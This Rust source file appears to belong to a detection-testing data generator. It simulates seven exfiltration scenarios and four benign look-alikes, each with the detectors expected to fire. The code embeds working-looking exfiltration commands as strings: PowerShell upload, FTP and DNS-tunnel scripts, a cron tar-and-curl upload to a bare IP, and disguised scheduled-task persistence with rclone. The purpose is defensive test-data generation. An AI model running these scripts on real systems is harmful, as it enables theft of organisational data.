//! The exfiltration scenarios and the benign look-alikes, with what a correct tool
//! must conclude about each.
//!
//! Exfiltration scenarios are injected on the "exfil day": the last working day of
//! the run, so that earlier days give the baselines some history. Setup steps that
//! happen earlier (a scheduled task, a crontab) go on the day before when there is one.

use crate::build::{Flow, MINUTE, Recorder, SEC, at, tag};
use crate::org::{Host, Role, Service};
use crate::record::{EndpointKind, HostId};
use crate::rng::{Rng, label};
use model::Timestamp;
use std::net::IpAddr;

/// A scenario's description: its name, whether it is benign, and the expected verdict.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct ScenarioInfo {
    /// Name used on the command line and in `labels.json`.
    pub name: &'static str,
    /// A benign look-alike (must not escalate) rather than exfiltration.
    pub benign: bool,
    /// One sentence on what happens.
    pub description: &'static str,
    /// Detectors a complete deployment is expected to fire (names as in alerts).
    pub expected_detectors: &'static [&'static str],
    /// Furthest chain stage expected (`exfiltration`, or `none` for benign ones).
    pub expected_stage: &'static str,
}

/// Every scenario, exfiltration first, then the benign look-alikes.
pub const SCENARIOS: &[ScenarioInfo] = &[
    ScenarioInfo {
        name: "rclone-overnight",
        benign: false,
        description: "a scheduled task created the afternoon before archives a finance folder with 7-Zip at 02:00 and rclone copies the archive (about 2.4 GB over four streams) to a new cloud storage host",
        expected_detectors: &[
            "sigma",
            "automation",
            "staging",
            "volume",
            "novelty",
            "offhours",
        ],
        expected_stage: "exfiltration",
    },
    ScenarioInfo {
        name: "https-low-and-slow",
        benign: false,
        description: "a hidden PowerShell loop posts about 200 KB (+-10%) every 30 minutes (+-30% jitter) over HTTPS to a never-seen domain through business hours",
        expected_detectors: &["cadence", "novelty", "sigma"],
        expected_stage: "exfiltration",
    },
    ScenarioInfo {
        name: "offhours-burst",
        benign: false,
        description: "about 2 GB leaves a workstation at 22:40 over three HTTPS connections to a file-drop site the organisation has never used",
        expected_detectors: &["volume", "novelty", "offhours"],
        expected_stage: "exfiltration",
    },
    ScenarioInfo {
        name: "dns-tunnel",
        benign: false,
        description: "a PowerShell script sends data as 600 TXT queries with long base32 subdomains of one domain, one every 6 seconds (+-30%)",
        expected_detectors: &["dns_tunnel", "sigma"],
        expected_stage: "exfiltration",
    },
    ScenarioInfo {
        name: "powershell-ftp",
        benign: false,
        description: "a PowerShell WebClient loop uploads 4-12 MB by FTP to port 2121 of an internet host every 10 minutes (+-10%) from 14:00 to 18:00",
        expected_detectors: &["sigma", "port", "cadence", "novelty"],
        expected_stage: "exfiltration",
    },
    ScenarioInfo {
        name: "linux-cron-curl",
        benign: false,
        description: "a crontab entry added the day before tars database backups and curl uploads them (20-60 MB) every hour at :17 to a bare internet address without SNI",
        expected_detectors: &["sigma", "automation", "staging", "cadence", "novelty"],
        expected_stage: "exfiltration",
    },
    ScenarioInfo {
        name: "sync-hijack",
        benign: false,
        description: "the sanctioned sync client is started with a personal account and uploads about 3.3 GB of contracts to the vendor's personal-account endpoint in business hours",
        expected_detectors: &["volume", "novelty"],
        expected_stage: "exfiltration",
    },
    ScenarioInfo {
        name: "benign-backup",
        benign: true,
        description: "the backup server ships 12-20 GB to the same offsite vault every night at about 01:00 (allow-listed)",
        expected_detectors: &[],
        expected_stage: "none",
    },
    ScenarioInfo {
        name: "benign-update",
        benign: true,
        description: "every workstation's updater, started by a scheduled task, downloads 5-120 MB from the update vendor every night at about 03:00 (allow-listed)",
        expected_detectors: &[],
        expected_stage: "none",
    },
    ScenarioInfo {
        name: "benign-sync",
        benign: true,
        description: "heavy uploaders push 200 MB to 1.2 GB to the sanctioned sync tenant in business hours, every working day (allow-listed)",
        expected_detectors: &[],
        expected_stage: "none",
    },
    ScenarioInfo {
        name: "benign-habitual-upload",
        benign: true,
        description: "heavy uploaders send 200 MB to 1.2 GB of artwork to the same print shop through the browser in business hours, every working day (not allow-listed: their own baseline must explain it)",
        expected_detectors: &[],
        expected_stage: "none",
    },
];

/// The scenario called `name`.
pub fn info(name: &str) -> Option<&'static ScenarioInfo> {
    SCENARIOS
        .iter()
        .chain(crate::saas::SCENARIOS)
        .find(|s| s.name == name)
}

/// Names of the network and endpoint exfiltration scenarios (with
/// [`crate::saas::exfil_names`], what `--scenario all` injects).
pub fn exfil_names() -> Vec<&'static str> {
    exfil_names_of(SCENARIOS)
}

/// Names of the exfiltration (not benign) scenarios of `list`.
pub fn exfil_names_of(list: &'static [ScenarioInfo]) -> Vec<&'static str> {
    list.iter().filter(|s| !s.benign).map(|s| s.name).collect()
}

/// Where a scenario's data goes, so its transfers can be found in the output.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Target {
    /// Hosts the scenario runs on.
    pub hosts: Vec<HostId>,
    /// The user behind it.
    pub user: Option<String>,
    /// Destinations: address, name, port.
    pub destinations: Vec<(Option<IpAddr>, Option<String>, Option<u16>)>,
    /// For DNS tunnels: the domain whose subdomains carry the data.
    pub dns_suffix: Option<String>,
}

/// What scenario generation needs to know about the run.
#[derive(Clone, Copy, Debug)]
pub struct ScenarioContext<'a> {
    /// Run seed.
    pub seed: u64,
    /// The organisation.
    pub hosts: &'a [Host],
    /// Midnight of the day the exfiltration happens.
    pub exfil_day: Timestamp,
    /// Midnight of the day before, when the run has one.
    pub setup_day: Option<Timestamp>,
}

impl ScenarioContext<'_> {
    /// When setup steps happen: `hour:minute` on the day before, or early on the
    /// exfil day for one-day runs.
    fn setup_time(&self, hour: i64, minute: i64) -> Timestamp {
        match self.setup_day {
            Some(day) => at(day, hour, minute),
            None => at(self.exfil_day, 0, 5 + minute % 30),
        }
    }
}

/// The host each exfiltration scenario runs on: Windows scenarios spread over the
/// workstations that are not heavy uploaders (round robin), the cron scenario on the
/// first Linux server.
pub fn assign_host(hosts: &[Host], scenario: &str) -> HostId {
    if scenario == "linux-cron-curl"
        && let Some(id) = hosts.iter().position(|h| h.role == Role::LinuxServer)
    {
        return id;
    }
    let candidates: Vec<HostId> = hosts
        .iter()
        .enumerate()
        .filter(|(_, h)| h.role == Role::Workstation && !h.heavy_uploader)
        .map(|(i, _)| i)
        .collect();
    let candidates = if candidates.is_empty() {
        hosts
            .iter()
            .enumerate()
            .filter(|(_, h)| h.role == Role::Workstation)
            .map(|(i, _)| i)
            .collect()
    } else {
        candidates
    };
    let order = exfil_names()
        .iter()
        .position(|n| *n == scenario)
        .unwrap_or(0);
    // Spread over the organisation (stride 7) so scenarios land on different hosts.
    candidates[(order * 7 + 2) % candidates.len().max(1)]
}

/// Generates the records of exfiltration scenario `name`; `None` for unknown or
/// benign names (benign look-alikes are part of the background).
pub fn generate(name: &str, ctx: &ScenarioContext<'_>, out: &mut Recorder) -> Option<Target> {
    let id = assign_host(ctx.hosts, name);
    let host = &ctx.hosts[id];
    let mut rng = Rng::derive(ctx.seed, &[label("scenario"), label(name)]);
    let rng = &mut rng;
    let target = match name {
        "rclone-overnight" => rclone_overnight(rng, ctx, id, host, out),
        "https-low-and-slow" => https_low_and_slow(rng, ctx, id, host, out),
        "offhours-burst" => offhours_burst(rng, ctx, id, host, out),
        "dns-tunnel" => dns_tunnel(rng, ctx, id, host, out),
        "powershell-ftp" => powershell_ftp(rng, ctx, id, host, out),
        "linux-cron-curl" => linux_cron_curl(rng, ctx, id, host, out),
        "sync-hijack" => sync_hijack(rng, ctx, id, host, out),
        _ => return None,
    };
    Some(Target {
        hosts: vec![id],
        user: host.user.clone(),
        ..target
    })
}

fn to(service: &Service, port: u16) -> (Option<IpAddr>, Option<String>, Option<u16>) {
    (Some(service.ip), Some(service.domain.clone()), Some(port))
}

const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

fn rclone_overnight(
    rng: &mut Rng,
    ctx: &ScenarioContext<'_>,
    id: HostId,
    host: &Host,
    out: &mut Recorder,
) -> Target {
    let dest = Service::new("g.api.cloudvault.example", [203, 0, 113, 45]);
    let user = host.windows_account();
    let setup = ctx.setup_time(16, 20);
    let ps = tag(rng, host, POWERSHELL, None);
    let schtasks = tag(rng, host, "C:\\Windows\\System32\\schtasks.exe", None);
    let task = "\\Microsoft\\Windows\\EdgeUpdate\\EdgeUpdateTaskCore";
    let run = "C:\\ProgramData\\EdgeSync\\run.cmd";
    out.process(
        id,
        setup,
        &ps,
        "powershell.exe -NoProfile",
        "C:\\Windows\\explorer.exe",
    );
    out.process(
        id,
        Timestamp(setup.0 + 40 * SEC),
        &schtasks,
        &format!(
            "schtasks.exe /create /tn \"{task}\" /tr \"{run}\" /sc daily /st 02:00 /ru SYSTEM /f"
        ),
        POWERSHELL,
    );
    out.endpoint(
        id,
        Timestamp(setup.0 + 41 * SEC),
        EndpointKind::TaskCreated {
            task_name: task.into(),
            command: run.into(),
            user: user.clone(),
        },
    );
    let fire = at(ctx.exfil_day, 2, 0);
    let system = Some("NT AUTHORITY\\SYSTEM");
    let cmd = tag(rng, host, "C:\\Windows\\System32\\cmd.exe", system);
    out.process(
        id,
        fire,
        &cmd,
        &format!("C:\\Windows\\system32\\cmd.exe /c \"{run}\""),
        "C:\\Windows\\System32\\svchost.exe",
    );
    let seven = tag(rng, host, "C:\\Program Files\\7-Zip\\7z.exe", system);
    let archive = "C:\\ProgramData\\EdgeSync\\cache_q4.7z";
    out.process(
        id,
        Timestamp(fire.0 + 2 * SEC),
        &seven,
        &format!("\"C:\\Program Files\\7-Zip\\7z.exe\" a -t7z -mx1 -pS3cure! {archive} \"D:\\Shares\\Finance\\2026\""),
        "C:\\Windows\\System32\\cmd.exe",
    );
    out.endpoint(
        id,
        Timestamp(fire.0 + 3 * SEC),
        EndpointKind::FileCreate {
            image: seven.image.clone(),
            target: archive.into(),
            user: seven.user.clone(),
        },
    );
    let copy_at = Timestamp(fire.0 + 9 * MINUTE + 30 * SEC);
    let rclone = tag(rng, host, "C:\\ProgramData\\EdgeSync\\rclone.exe", system);
    out.process(
        id,
        copy_at,
        &rclone,
        &format!("C:\\ProgramData\\EdgeSync\\rclone.exe copy {archive} vault:backup/q4 --transfers 4 --no-check-certificate -q"),
        "C:\\Windows\\System32\\cmd.exe",
    );
    for stream in 0..4i64 {
        let bytes = rng.range(500_000_000, 700_000_000);
        let flow = Flow::new(
            Timestamp(copy_at.0 + (3 + stream) * SEC),
            rng.uniform(1800.0, 2700.0),
            bytes,
            rng.range(200_000, 900_000),
        );
        out.tls_to(rng, id, &dest, flow, Some(rclone.clone()), stream == 0);
    }
    Target {
        destinations: vec![to(&dest, 443)],
        ..Target::default()
    }
}

/// Interval of the low-and-slow loop and its jitter, as the scenario describes them.
pub const LOW_AND_SLOW_INTERVAL_S: f64 = 1800.0;
/// Jitter of the interval (fraction either way).
pub const LOW_AND_SLOW_JITTER: f64 = 0.3;
/// Bytes per post.
pub const LOW_AND_SLOW_BYTES: f64 = 200_000.0;
/// Spread of the post size (fraction either way).
pub const LOW_AND_SLOW_SIZE_SPREAD: f64 = 0.1;

fn https_low_and_slow(
    rng: &mut Rng,
    ctx: &ScenarioContext<'_>,
    id: HostId,
    host: &Host,
    out: &mut Recorder,
) -> Target {
    let dest = Service::new("telemetry-cdn.example", [198, 51, 100, 23]);
    let script = format!(
        "C:\\Users\\{}\\AppData\\Roaming\\Microsoft\\upd.ps1",
        host.user.as_deref().unwrap_or("user")
    );
    let ps = tag(rng, host, POWERSHELL, None);
    let started = at(ctx.exfil_day, 8, 55);
    out.process(
        id,
        started,
        &ps,
        &format!("powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -File {script}"),
        "C:\\Windows\\System32\\wscript.exe",
    );
    out.endpoint(
        id,
        Timestamp(started.0 + SEC),
        EndpointKind::ScriptBlock {
            text: "$files = Get-ChildItem \"$env:USERPROFILE\\Documents\" -Recurse -Include *.docx,*.xlsx,*.pdf\r\nforeach ($f in $files) {\r\n  $bytes = [IO.File]::ReadAllBytes($f.FullName)\r\n  for ($i = 0; $i -lt $bytes.Length; $i += 200KB) {\r\n    $chunk = [Convert]::ToBase64String($bytes[$i..[Math]::Min($i + 200KB - 1, $bytes.Length - 1)])\r\n    Invoke-WebRequest -Uri 'https://telemetry-cdn.example/api/v2/upload' -Method POST -Body $chunk -UseBasicParsing | Out-Null\r\n    Start-Sleep -Seconds (Get-Random -Minimum 1260 -Maximum 2340)\r\n  }\r\n}".into(),
            path: script.clone(),
        },
    );
    let mut t = Timestamp(at(ctx.exfil_day, 9, 0).0 + rng.range(0, 120) as i64 * SEC);
    let end = at(ctx.exfil_day, 17, 0);
    while t < end {
        let bytes = rng
            .jitter(LOW_AND_SLOW_BYTES, LOW_AND_SLOW_SIZE_SPREAD)
            .round() as u64;
        let flow = Flow::new(t, rng.uniform(0.8, 4.0), bytes, rng.range(300, 900));
        out.tls_to(rng, id, &dest, flow, Some(ps.clone()), true);
        let interval = rng.jitter(LOW_AND_SLOW_INTERVAL_S, LOW_AND_SLOW_JITTER);
        t = Timestamp(t.0 + (interval * SEC as f64) as i64);
    }
    Target {
        destinations: vec![to(&dest, 443)],
        ..Target::default()
    }
}

fn offhours_burst(
    rng: &mut Rng,
    ctx: &ScenarioContext<'_>,
    id: HostId,
    host: &Host,
    out: &mut Recorder,
) -> Target {
    let dest = Service::new("files.quickdrop.example", [203, 0, 113, 77]);
    let edge = tag(
        rng,
        host,
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        None,
    );
    let start = at(ctx.exfil_day, 22, 40);
    out.process(id, Timestamp(start.0 - 2 * MINUTE), &edge, "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" https://files.quickdrop.example/", "C:\\Windows\\explorer.exe");
    for stream in 0..3i64 {
        let bytes = rng.range(600_000_000, 750_000_000);
        let flow = Flow::new(
            Timestamp(start.0 + stream * 20 * SEC),
            rng.uniform(1200.0, 1800.0),
            bytes,
            rng.range(100_000, 400_000),
        );
        out.tls_to(rng, id, &dest, flow, Some(edge.clone()), stream == 0);
    }
    Target {
        destinations: vec![to(&dest, 443)],
        ..Target::default()
    }
}

/// Queries the DNS tunnel sends.
pub const DNS_TUNNEL_QUERIES: usize = 600;
/// The tunnel's domain.
pub const DNS_TUNNEL_DOMAIN: &str = "cdn-metrics.example";

fn dns_tunnel(
    rng: &mut Rng,
    ctx: &ScenarioContext<'_>,
    id: HostId,
    host: &Host,
    out: &mut Recorder,
) -> Target {
    const BASE32: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
    let ps = tag(rng, host, POWERSHELL, None);
    let started = at(ctx.exfil_day, 13, 0);
    let script = "C:\\Users\\Public\\diag.ps1";
    out.process(
        id,
        started,
        &ps,
        &format!("powershell.exe -NoP -NonI -W Hidden -File {script}"),
        "C:\\Windows\\System32\\cmd.exe",
    );
    out.endpoint(
        id,
        Timestamp(started.0 + SEC),
        EndpointKind::ScriptBlock {
            text: format!("$data = [IO.File]::ReadAllBytes('C:\\Users\\Public\\hr.zip')\r\n$enc = ConvertTo-Base32 $data\r\n$n = 0\r\nforeach ($c in ($enc -split '(.{{100}})' | ? {{ $_ }})) {{\r\n  Resolve-DnsName -Type TXT -Name (\"{{0}}.{{1}}.{{2}}.d.{DNS_TUNNEL_DOMAIN}\" -f $c.Substring(0,50), $c.Substring(50), $n++) | Out-Null\r\n  Start-Sleep -Milliseconds (Get-Random -Minimum 4200 -Maximum 7800)\r\n}}"),
            path: script.into(),
        },
    );
    let mut t = Timestamp(started.0 + 5 * SEC);
    for n in 0..DNS_TUNNEL_QUERIES {
        let (first_len, second_len) = (rng.range(48, 56) as usize, rng.range(40, 52) as usize);
        let first = rng.string(BASE32, first_len);
        let second = rng.string(BASE32, second_len);
        let query = format!("{first}.{second}.{n}.d.{DNS_TUNNEL_DOMAIN}");
        let answer = rng.string(BASE32, 16);
        out.lookup(rng, id, t, &query, "TXT", vec![answer], Some(ps.clone()));
        t = Timestamp(t.0 + (rng.jitter(6.0, 0.3) * SEC as f64) as i64);
    }
    Target {
        dns_suffix: Some(DNS_TUNNEL_DOMAIN.into()),
        destinations: vec![(None, Some(DNS_TUNNEL_DOMAIN.into()), Some(53))],
        ..Target::default()
    }
}

fn powershell_ftp(
    rng: &mut Rng,
    ctx: &ScenarioContext<'_>,
    id: HostId,
    host: &Host,
    out: &mut Recorder,
) -> Target {
    let ip: IpAddr = [203, 0, 113, 99].into();
    let ps = tag(rng, host, POWERSHELL, None);
    let started = at(ctx.exfil_day, 13, 58);
    let script = "C:\\ProgramData\\ftpsync.ps1";
    out.process(
        id,
        started,
        &ps,
        &format!(
            "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File {script}"
        ),
        "C:\\Windows\\explorer.exe",
    );
    out.endpoint(
        id,
        Timestamp(started.0 + SEC),
        EndpointKind::ScriptBlock {
            text: "$wc = New-Object System.Net.WebClient\r\n$wc.Credentials = New-Object System.Net.NetworkCredential('drop', 'Summer2026')\r\nwhile ($true) {\r\n  Get-ChildItem 'D:\\Projects' -Recurse -Filter *.dwg | Where-Object { $_.LastWriteTime -gt (Get-Date).AddDays(-30) } | ForEach-Object {\r\n    $wc.UploadFile(\"ftp://203.0.113.99:2121/in/$($_.Name)\", $_.FullName) | Out-Null\r\n  }\r\n  Start-Sleep -Seconds 600\r\n}".into(),
            path: script.into(),
        },
    );
    let mut t = Timestamp(at(ctx.exfil_day, 14, 0).0 + rng.range(0, 60) as i64 * SEC);
    let end = at(ctx.exfil_day, 18, 0);
    while t < end {
        let bytes = rng.range(4_000_000, 12_000_000);
        let transfer_s = bytes as f64 / rng.uniform(2e6, 6e6);
        let control = Flow::new(
            t,
            transfer_s + 3.0,
            rng.range(300, 600),
            rng.range(500, 900),
        );
        out.connection(
            rng,
            id,
            (ip, 2121),
            control,
            Some("ftp"),
            None,
            None,
            Some(ps.clone()),
        );
        let data = Flow::new(Timestamp(t.0 + SEC), transfer_s, bytes, 0);
        let data_port = rng.range(50_000, 50_100) as u16;
        out.connection(
            rng,
            id,
            (ip, data_port),
            data,
            Some("ftp-data"),
            None,
            None,
            Some(ps.clone()),
        );
        t = Timestamp(t.0 + (rng.jitter(600.0, 0.1) * SEC as f64) as i64);
    }
    Target {
        destinations: vec![(Some(ip), None, Some(2121))],
        ..Target::default()
    }
}

fn linux_cron_curl(
    rng: &mut Rng,
    ctx: &ScenarioContext<'_>,
    id: HostId,
    host: &Host,
    out: &mut Recorder,
) -> Target {
    let ip: IpAddr = [203, 0, 113, 150].into();
    let root = Some("root");
    let setup = ctx.setup_time(15, 5);
    let crontab = tag(rng, host, "/usr/bin/crontab", root);
    out.process(id, setup, &crontab, "crontab /tmp/.x", "/bin/bash");
    out.endpoint(
        id,
        Timestamp(setup.0 + SEC),
        EndpointKind::FileCreate {
            image: crontab.image.clone(),
            target: "/var/spool/cron/crontabs/root".into(),
            user: "root".into(),
        },
    );
    let archive = "/tmp/.cache.tgz";
    let command = format!(
        "tar czf {archive} /var/lib/postgresql/backups && curl -sk -T {archive} https://203.0.113.150/u/"
    );
    for hour in 0..24 {
        let fire = Timestamp(at(ctx.exfil_day, hour, 17).0 + rng.range(0, 2) as i64 * SEC);
        if fire <= setup {
            continue;
        }
        let sh = tag(rng, host, "/bin/sh", root);
        out.process(
            id,
            fire,
            &sh,
            &format!("/bin/sh -c {command}"),
            "/usr/sbin/cron",
        );
        let tar = tag(rng, host, "/usr/bin/tar", root);
        out.process(
            id,
            Timestamp(fire.0 + SEC / 10),
            &tar,
            &format!("tar czf {archive} /var/lib/postgresql/backups"),
            "/bin/sh",
        );
        out.endpoint(
            id,
            Timestamp(fire.0 + SEC / 5),
            EndpointKind::FileCreate {
                image: tar.image.clone(),
                target: archive.into(),
                user: "root".into(),
            },
        );
        let curl = tag(rng, host, "/usr/bin/curl", root);
        let upload_at = Timestamp(fire.0 + rng.range(20, 40) as i64 * SEC);
        out.process(
            id,
            upload_at,
            &curl,
            &format!("curl -sk -T {archive} https://203.0.113.150/u/"),
            "/bin/sh",
        );
        let bytes = rng.range(20_000_000, 60_000_000);
        let flow = Flow::new(
            Timestamp(upload_at.0 + SEC / 20),
            bytes as f64 / rng.uniform(5e6, 15e6),
            bytes,
            rng.range(400, 1_200),
        );
        out.connection(
            rng,
            id,
            (ip, 443),
            flow,
            Some("ssl"),
            Some(None),
            None,
            Some(curl),
        );
    }
    Target {
        destinations: vec![(Some(ip), None, Some(443))],
        ..Target::default()
    }
}

fn sync_hijack(
    rng: &mut Rng,
    ctx: &ScenarioContext<'_>,
    id: HostId,
    host: &Host,
    out: &mut Recorder,
) -> Target {
    let dest = Service::new("personal.synccloud.example", [198, 51, 100, 61]);
    let user = host.user.as_deref().unwrap_or("user");
    let sync = tag(
        rng,
        host,
        "C:\\Program Files\\SyncCloud\\SyncCloud.exe",
        None,
    );
    let started = at(ctx.exfil_day, 11, 0);
    out.process(
        id,
        started,
        &sync,
        &format!("\"C:\\Program Files\\SyncCloud\\SyncCloud.exe\" --account personal:{}1987@mailbox.example --folder \"C:\\Users\\{user}\\Documents\\Contracts\"", user.split('.').next().unwrap_or(user)),
        "C:\\Windows\\explorer.exe",
    );
    for stream in 0..3i64 {
        let bytes = rng.range(1_000_000_000, 1_200_000_000);
        let flow = Flow::new(
            Timestamp(started.0 + 5 * MINUTE + stream * 12 * MINUTE),
            rng.uniform(600.0, 900.0),
            bytes,
            rng.range(100_000, 500_000),
        );
        out.tls_to(rng, id, &dest, flow, Some(sync.clone()), stream == 0);
    }
    Target {
        destinations: vec![to(&dest, 443)],
        ..Target::default()
    }
}

/// Where the benign look-alike `name` happens: its hosts and destinations.
pub fn benign_target(hosts: &[Host], name: &str) -> Option<Target> {
    let ids = |pred: &dyn Fn(&Host) -> bool| -> Vec<HostId> {
        hosts
            .iter()
            .enumerate()
            .filter(|(_, h)| pred(h))
            .map(|(i, _)| i)
            .collect()
    };
    let (ids, service, user) = match name {
        "benign-backup" => (
            ids(&|h| h.role == Role::BackupServer),
            crate::org::backup_service(),
            Some("svc_backup".to_string()),
        ),
        "benign-update" => (
            ids(&|h| h.role == Role::Workstation),
            crate::org::update_service(),
            None,
        ),
        "benign-sync" => (ids(&|h| h.heavy_uploader), crate::org::sync_service(), None),
        "benign-habitual-upload" => (
            ids(&|h| h.heavy_uploader),
            crate::org::print_shop_service(),
            None,
        ),
        _ => return None,
    };
    let user = user.or_else(|| match ids.as_slice() {
        [one] => hosts[*one].user.clone(),
        _ => None,
    });
    Some(Target {
        hosts: ids,
        user,
        destinations: vec![to(&service, 443)],
        dns_suffix: None,
    })
}
